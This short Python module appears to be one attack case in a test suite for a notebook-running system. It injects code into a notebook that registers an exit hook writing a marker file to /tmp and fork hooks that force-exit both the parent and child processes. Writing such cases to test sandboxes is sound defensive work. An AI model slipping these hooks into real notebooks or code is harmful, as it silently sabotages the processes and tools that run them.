"""Registers work for the end of its process and for every fork."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import atexit, os
atexit.register(lambda: open('/tmp/eve-was-here', 'w'))
os.register_at_fork(before=lambda: os._exit(0), after_in_child=lambda: os._exit(0))
""",
    )
